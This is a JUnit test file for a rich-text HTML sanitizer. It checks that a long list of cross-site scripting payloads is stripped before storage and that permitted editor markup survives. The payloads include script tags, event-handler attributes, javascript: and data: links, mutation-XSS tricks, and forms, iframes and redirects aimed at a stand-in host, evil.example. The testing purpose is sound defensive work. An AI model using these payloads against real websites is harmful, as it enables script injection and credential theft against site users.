package org.plenum.pages;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichTextTest {
    /** The only tags that may ever be stored, with all that may stand in them. */
    private static final Pattern LET_THROUGH =
            Pattern.compile("</?(?:p|h2|h3|strong|em|ul|ol|li|blockquote|a)>|<(?:br|hr) />"
                    + "|<a href=\"(?:https?:|mailto:|tel:|[^\":]*\")[^\"<>]*\"? rel=\"noopener\">");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<p>a<script src=//evil.example/x.js></script>b",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
                "<a href='https://ok.example\"><script>alert(1)</script>'>x</a>",
                "<p onmouseover=alert(1)>x</p>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<h2 id=\"main\" class=\"x\">x</h2>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=\"x.swf\"></object><embed src=x>",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=https://evil.example>",
                "<style>@import 'https://evil.example';</style>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><script>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "\u0000<script\u0000>alert(1)</script>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<marquee onstart=alert(1)>",
                "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
                "{{constructor.constructor('alert(1)')()}} #{1+1} ${7*7}"
            })
    void nothingThatActsIsStored(String attack) {
        String stored = RichText.clean(attack);

        String rest = LET_THROUGH.matcher(stored).replaceAll("");
        assertFalse(rest.contains("<"), () -> attack + " became " + stored);
        String lower = stored.toLowerCase(Locale.ROOT);
        assertFalse(
                Pattern.compile("<[^>]*(javascript|vbscript|data):")
                        .matcher(lower)
                        .find(),
                stored);
        assertFalse(Pattern.compile("<[^>]*\\son[a-z]+=").matcher(lower).find(), stored);
        assertEquals(stored, RichText.clean(stored), "cleaning again changes nothing");
    }

    @Test
    void whatTheEditorWritesStays() {
        String written = "<h2>Getting here</h2><p>By <strong>train</strong> or <em>boat</em>,"
                + " see <a href=\"https://ferry.example/times\">times</a> or <a href=\"/events/agora\">the event</a>.</p>"
                + "<ul><li>One</li><li>Two</li></ul><blockquote>Said</blockquote>";

        assertEquals(
                written.replace("times\">", "times\" rel=\"noopener\">")
                        .replace("agora\">", "agora\" rel=\"noopener\">"),
                RichText.clean(written));
    }

    @Test
    void otherMarkupOfTheSameMeaningBecomesOurs() {
        assertEquals(
                "<h2>T</h2><p><strong>b</strong> <em>i</em></p>",
                RichText.clean("<h1 class=x>T</h1><div><b>b</b> <i>i</i></div><p><br></p>"));
    }

    @Test
    void plainTextBecomesParagraphs() {
        assertEquals("<p>One &amp; two<br />three</p><p>4 &lt; 5</p>", RichText.clean("One & two\nthree\n\n\n4 < 5\n"));
    }

    @Test
    void theBeginningIsToldWithoutMarkup() {
        String html = RichText.clean("<h2>Here & now</h2><p>Come <b>over</b> to the harbour.</p>");

        assertEquals("Here & now Come over to the harbour.", RichText.plain(html, 160));
        assertEquals("Here & now Come…", RichText.plain(html, 18));
        assertTrue(RichText.plain(html, 18).length() <= 18);
    }
}
